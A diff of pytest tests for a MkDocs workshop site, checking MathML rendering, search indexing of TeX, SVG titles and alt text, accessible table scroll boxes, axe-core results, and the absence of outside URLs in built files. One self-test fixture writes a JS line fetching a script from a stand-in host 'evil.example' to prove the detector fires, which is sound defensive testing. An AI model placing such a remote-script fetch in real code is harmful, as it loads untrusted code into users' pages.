@@ -123,7 +123,7 @@ def test_every_formula_became_mathml(built_site):
 def test_formulas_of_module_3_are_there(built_site):
     """The attention equation and sqrt(d_k) render as MathML elements (not just vanish)."""
     html_text = (built_site / "module-3" / "index.html").read_text(encoding="utf-8")
-    assert html_text.count('<math xmlns="http://www.w3.org/1998/Math/MathML" display="block">') >= 1
+    assert len(re.findall(r'<math [^>]*display="block"', html_text)) >= 1
     assert "<msqrt>" in html_text and "<mfrac>" in html_text, "the attention equation lost its fraction or root"
 
 
@@ -132,6 +132,36 @@ def test_the_raw_tex_check_can_fail():
     p.feed('<p>the scale $\\sqrt{d_k}$ and \\(x\\)</p><pre><code>echo $HOME</code></pre>')
     prose = " ".join(p.prose)
     assert _RAW_TEX.search(prose) and "HOME" not in prose
+
+
+_TEX_CODE = re.compile(r'<code class="workshop-tex" hidden>(.*?)</code>', re.S)
+
+
+@pytest.mark.site
+def test_search_indexes_the_tex_of_formulas_not_flattened_mathml(built_site):
+    """Material's search would flatten MathML to "softmax(x)i=exi∑jexj": the index holds each formula's TeX."""
+    import html
+    import json
+
+    index = json.loads((built_site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    text = html.unescape(" ".join(doc["title"] + " " + doc["text"] for doc in index["docs"]))
+    problems, formulas = [], 0
+    for page in site_pages(built_site):
+        html_text = page.read_text(encoding="utf-8")
+        maths = re.findall(r"<math\b[^>]*>", html_text)
+        formulas += len(maths)
+        bare = [m for m in maths if "data-search-exclude" not in m]
+        if bare:
+            problems.append(f"{source_name(built_site, page)}: {len(bare)} formula(s) indexed as flattened MathML")
+        texs = _TEX_CODE.findall(html_text)
+        if len(texs) != len(maths):
+            problems.append(f"{source_name(built_site, page)}: {len(maths)} formulas but {len(texs)} TeX copies for search")
+        problems += [f"{source_name(built_site, page)}: TeX {t!r} is not in the search index"
+                     for t in texs if html.unescape(t) not in text]
+    assert formulas > 10, "hardly any formula on the site: the check looks at nothing"
+    # MathML's <mo>∑</mo> as plain text; the prose writes sums in words or TeX, never with the bare symbol.
+    assert "∑" not in text, "the search index still holds flattened MathML (a bare ∑)"
+    assert not problems, "\n".join(problems)
 
 
 # ---------------------------------------------------------------------------- links and anchors
@@ -230,6 +260,62 @@ def test_every_figure_downloads_as_svg_and_csv(built_site):
 
 
 @pytest.mark.site
+def test_downloaded_svgs_carry_title_and_description(built_site):
+    """A downloaded figure or diagram describes itself: <title> and <desc> first in its root <svg>, the desc being
+    the text alternative the page gives it."""
+    problems, checked = [], 0
+    alts = {}
+    for page in site_pages(built_site):
+        for img in parse(page).images:
+            alts.setdefault((img.get("src") or "").rsplit("/", 1)[-1], img.get("alt") or "")
+        for svg in parse(page).svg_imgs:
+            alts.setdefault("aria:" + (svg.get("aria-label") or ""), "")
+    for svg in sorted((built_site / "generated").rglob("*.svg")):
+        text = svg.read_text(encoding="utf-8")
+        root = re.search(r"<svg\b[^>]*>\s*<title>([^<]{8,})</title>\s*<desc>([^<]{20,})</desc>", text)
+        name = svg.relative_to(built_site).as_posix()
+        checked += 1
+        if root is None:
+            problems.append(f"{name}: no <title> and <desc> at the top of the SVG")
+            continue
+        import html
+
+        desc = html.unescape(root.group(2))
+        if svg.parent.name != "diagrams" and desc != alts.get(svg.name):
+            problems.append(f"{name}: <desc> differs from the page's alt text: {desc!r} vs {alts.get(svg.name)!r}")
+        if svg.parent.name == "diagrams" and f"aria:{desc}" not in alts:
+            problems.append(f"{name}: <desc> is not the diagram's text alternative on its page: {desc!r}")
+    assert checked >= 4, "hardly any downloadable SVG: the check looks at nothing"
+    assert not problems, "\n".join(problems)
+
+
+@pytest.mark.site
+def test_figure_alt_texts_state_their_numbers(built_site):
+    """A heatmap's alt text gives every value of its CSV; the sqrt(d_k) chart's states what it shows, from its CSV."""
+    checked = 0
+    for page in site_pages(built_site):
+        for img in parse(page).images:
+            src = img.get("src") or ""
+            table = built_site / "generated" / src.rsplit("/", 1)[-1].replace(".svg", ".csv")
+            if "/generated/" not in "/" + src.lstrip("./") or not table.exists():
+                continue
+            alt = img.get("alt") or ""
+            rows = list(csv.reader(io.StringIO(table.read_text(encoding="utf-8"))))
+            where = f"{source_name(built_site, page)}: alt of {src}"
+            if rows[0][0] == "query":
+                missing = [f"{float(v):.3f}" for row in rows[1:] for v in row[1:] if f"{float(v):.3f}" not in alt]
+                assert not missing, f"{where} does not state the values {missing}: {alt!r}"
+            else:
+                col = {h: [float(r[i]) for r in rows[1:]] for i, h in enumerate(rows[0])}
+                raw, scaled = col["max_weight_raw"], col["max_weight_scaled"]
+                for v in (raw[0], raw[-1], min(scaled), max(scaled)):
+                    assert f"{v:.3f}" in alt, f"{where} does not state {v:.3f}: {alt!r}"
+                assert ("rises" in alt) == all(b > a for a, b in zip(raw, raw[1:])), f"{where}: 'rises' is not what the data do"
+            checked += 1
+    assert checked >= 3, "fewer figures with a CSV than expected: the check looks at nothing"
+
+
+@pytest.mark.site
 def test_every_heatmap_prints_its_values(built_site):
     """A heatmap (an SVG with a raster image of cells) prints each value of its CSV, to 3 decimals."""
     checked = 0
@@ -251,6 +337,109 @@ def test_every_heatmap_prints_its_values(built_site):
         checked += 1
     assert checked, "no heatmap found: the check looks at nothing"
     assert not problems, "\n".join(problems)
+
+
+# ---------------------------------------------------------------------------- scroll boxes
+
+
+def _hook():
+    """hooks/workshop.py, loaded as a module (MkDocs loads it by path, not as a package)."""
+    import importlib.util
+
+    spec = importlib.util.spec_from_file_location("workshop_hook", Path(__file__).resolve().parent.parent / "hooks" / "workshop.py")
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+def test_tables_get_a_named_keyboard_reachable_box():
+    out = _hook()._scroll_regions(
+        '<p>x</p><table>\n<thead><tr><th></th><th>the</th><th>river</th></tr></thead><tbody></tbody></table>'
+        '<span class="doc-section-title">Parameters:</span><table><thead><tr><th>Name</th></tr></thead></table>'
+        '<div class="ins-matrix"><table class="ins-grid"><caption>Q (head 1)</caption></table></div>')
+    boxes = re.findall(r'<div class="([^"]+)" tabindex="0" role="region" aria-label="([^"]+)">', out)
+    assert boxes == [("workshop-scroll", "table: the, river"), ("workshop-scroll", "table: Parameters"),
+                     ("ins-matrix", "table: Q (head 1)")], boxes
+
+
+@pytest.mark.site
+def test_every_table_sits_in_a_focusable_named_region(built_site):
+    """On a phone a table is wider than the screen: its scroll box must take focus and have a name."""
+    problems, tables = [], 0
+    for page in site_pages(built_site):
+        html_text = page.read_text(encoding="utf-8")
+        for m in re.finditer(r"(<div [^>]*>)?\s*<table( class=\"(?!highlighttable)[^\"]*\")?>", html_text):
+            tables += 1
+            box = m.group(1) or ""
+            if not ('tabindex="0"' in box and 'role="region"' in box and re.search(r'aria-label="[^"]{5,}"', box)):
+                problems.append(f"{source_name(built_site, page)}: a table's box is not focusable and named: {box!r}")
+    assert tables > 10, "hardly any table on the site: the check looks at nothing"
+    assert not problems, "\n".join(problems[:20])
+
+
+# ---------------------------------------------------------------------------- nothing from elsewhere
+
+# URLs the theme's JavaScript bundle holds but never requests on this site, each with the reason.
+LATENT_IN_MATERIAL = {
+    "https://unpkg.com/mermaid@": "loaded only for a page with a Mermaid diagram (none here: checked below)",
+    "https://api.github.com/": "repository facts, only with repo_url (null in mkdocs.yml: checked below)",
+    "https://${e}/api/v4/projects/": "GitLab repository facts, only with repo_url",
+    "https://unpkg.com/resize-observer-polyfill": "only in a browser without ResizeObserver (none current)",
+}
+_URL = re.compile(r"https?://[^\s\"'`)<>]+")
+_NAMESPACE = re.compile(r"https?://www\.w3\.org/")
+
+
+def foreign_references(site: Path, site_url: str) -> list[str]:
+    """Every reference to a URL outside the site in the built CSS, JS, HTML and SVG (plain <a href> links aside)."""
+    problems = []
+    for path in sorted(site.rglob("*")):
+        if path.suffix not in {".css", ".js", ".html", ".svg"}:
+            continue
+        text = path.read_text(encoding="utf-8", errors="replace")
+        name = path.relative_to(site).as_posix()
+        if path.suffix == ".css":
+            found = [u for u in re.findall(r"(?:url\(\s*['\"]?|@import\s+['\"])(https?://[^'\")\s]+)", text)]
+        elif path.suffix == ".js":
+            found = [u for u in re.findall(r"[\"'`](https?://[^\"'`\s]+)", text)
+                     if not any(u.startswith(k) for k in LATENT_IN_MATERIAL)]
+        else:
+            found = []
+            for tag, attrs in re.findall(r"<([a-zA-Z][\w:-]*)\b([^>]*)>", text):
+                for attr, value in re.findall(r"([\w:-]+)\s*=\s*\"([^\"]*)\"", attrs):
+                    if attr.startswith(("xmlns", "rdf:")) or (tag.lower() == "a" and attr in {"href", "xlink:href"}):
+                        # namespaces and RDF metadata names (matplotlib's) identify, they are never fetched
+                        continue
+                    found += [u for u in _URL.findall(value)]
+            found += re.findall(r"url\(\s*['\"]?(https?://[^'\")\s]+)", text)
+        problems += [f"{name}: {u}" for u in found if not _NAMESPACE.match(u) and not u.startswith(site_url)]
+    return problems
+
+
+def _site_url() -> str:
+    text = (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(encoding="utf-8")
+    return re.search(r"^site_url:\s*(\S+)", text, re.M).group(1)
+
+
+@pytest.mark.site
+def test_no_built_file_references_a_foreign_url(built_site):
+    """No CSS @import/url(), no script or link or image source, no fetch in a script points outside the site."""
+    problems = foreign_references(built_site, _site_url())
+    assert not problems, f"{len(problems)} reference(s) outside the site:\n" + "\n".join(problems[:30])
+    assert not list(built_site.rglob("_markdown_exec_pyodide*")), "markdown-exec's pyodide assets reached the site"
+    # The conditions under which Material's latent URLs would be used do not hold.
+    assert not any('class="mermaid"' in p.read_text(encoding="utf-8") for p in site_pages(built_site))
+    assert re.search(r"^repo_url:\s*null\s*$", (Path(__file__).resolve().parent.parent / "mkdocs.yml").read_text(), re.M)
+
+
+def test_the_foreign_reference_check_can_fail(tmp_path):
+    (tmp_path / "a.css").write_text('html { color: red }\n@import "https://cdn.example/x.css";\n')
+    (tmp_path / "b.js").write_text('// see https://example.org/docs\nfetch("https://evil.example/t.js")\n')
+    (tmp_path / "c.html").write_text('<a href="https://example.org/">ok</a><link rel="canonical" href="https://site.invalid/c/">'
+                                     '<script src="https://cdn.example/s.js"></script><svg xmlns="http://www.w3.org/2000/svg"></svg>')
+    problems = foreign_references(tmp_path, "https://site.invalid/")
+    assert problems == ["a.css: https://cdn.example/x.css", "b.js: https://evil.example/t.js",
+                        "c.html: https://cdn.example/s.js"], problems
 
 
 # ---------------------------------------------------------------------------- API reference
@@ -292,12 +481,27 @@ class _Log:
             self.foreign_requests.append(req.url)
 
 
+DESKTOP = {"width": 1280, "height": 900}
+PHONE = {"width": 375, "height": 800}
+
+
+def _axe_problems(axe, page, where: str) -> list[str]:
+    """axe-core's serious and critical violations on the page as it is now."""
+    problems = []
+    for v in axe.run(page).response["violations"]:
+        if v["impact"] in ("serious", "critical"):
+            targets = [n["target"] for n in v["nodes"][:3]]
+            problems.append(f"{where}: axe {v['impact']} {v['id']} on {len(v['nodes'])} node(s), e.g. {targets}")
+    return problems
+
+
 def _visit_all(browser, site_url: str, built_site: Path, scheme: str) -> list[str]:
+    """Every page in one scheme, at desktop width and again at phone width (375 x 800)."""
     from axe_playwright_python.sync_playwright import Axe
 
     axe = Axe()
     problems = []
-    context = browser.new_context(viewport={"width": 1280, "height": 900}, color_scheme=scheme)
+    context = browser.new_context(viewport=DESKTOP, color_scheme=scheme)
     try:
         page = context.new_page()
         log = _Log(site_url)
@@ -316,11 +520,12 @@ def _visit_all(browser, site_url: str, built_site: Path, scheme: str) -> list[st
                 problems.append(f"{name} [{scheme}]: the page shows scheme {got!r}, not {want!r}")
             # Collapsed answers and reveals are part of the page too: open them before axe looks.
             page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
-            result = axe.run(page)
-            for v in result.response["violations"]:
-                if v["impact"] in ("serious", "critical"):
-                    targets = [n["target"] for n in v["nodes"][:3]]
-                    problems.append(f"{name} [{scheme}]: axe {v['impact']} {v['id']} on {len(v['nodes'])} node(s), e.g. {targets}")
+            problems += _axe_problems(axe, page, f"{name} [{scheme}]")
+            # On a phone, wide tables and matrices scroll sideways: their boxes must be reachable by keyboard.
+            page.set_viewport_size(PHONE)
+            page.wait_for_timeout(150)  # Material re-measures its code blocks on resize
+            problems += _axe_problems(axe, page, f"{name} [{scheme}, {PHONE['width']}px]")
+            page.set_viewport_size(DESKTOP)
             problems += [f"{name} [{scheme}]: request outside the site: {u}" for u in log.foreign_requests]
             problems += [f"{name} [{scheme}]: console error: {e}" for e in log.console_errors]
     finally:
@@ -347,6 +552,31 @@ def test_search_works_offline(page_and_log, site_url):
     assert page.locator(".md-search-result__item").count() >= 1
     assert not log.foreign_requests, log.foreign_requests
     assert not log.console_errors, log.console_errors
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("viewport", [DESKTOP, PHONE], ids=["desktop", "phone"])
+def test_search_results_are_accessible(browser, site_url, scheme, viewport):
+    """With results showing (counts, matches highlighted in prose and code, code excerpts), axe finds nothing serious."""
+    from axe_playwright_python.sync_playwright import Axe
+
+    context = browser.new_context(viewport=viewport, color_scheme=scheme)
+    try:
+        page = context.new_page()
+        page.goto(site_url, wait_until="networkidle")
+        if viewport is PHONE:
+            page.click("label.md-header__button[for='__search']")
+        page.click("input.md-search__input")
+        page.keyboard.type("softmax")
+        page.wait_for_selector(".md-search-result__item", timeout=10_000)
+        page.wait_for_timeout(300)  # the result list renders in batches
+        assert page.locator(".md-search-result mark").count() >= 3, "no highlighted match: nothing to check"
+        assert page.locator(".md-search-result pre > code").count() >= 1, "no code excerpt among the results"
+        problems = _axe_problems(Axe(), page, f"search [{scheme}, {viewport['width']}px]")
+    finally:
+        context.close()
+    assert not problems, "\n".join(problems)
 
 
 def test_axe_is_loaded_from_the_package():
